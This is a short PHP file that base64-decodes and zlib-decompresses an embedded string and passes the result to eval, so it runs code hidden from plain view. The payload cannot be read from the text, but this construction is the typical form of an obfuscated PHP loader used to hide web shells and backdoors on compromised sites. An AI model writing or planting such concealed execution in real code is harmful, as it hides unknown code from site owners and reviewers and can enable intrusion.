<?php
$x = 'eJzLTNPILC5OLdFQiQ/wDw6JVk9Wj9XUrC6uLC5JzUURtK4FAEbjDic=';
eval(gzuncompress(base64_decode($x)));
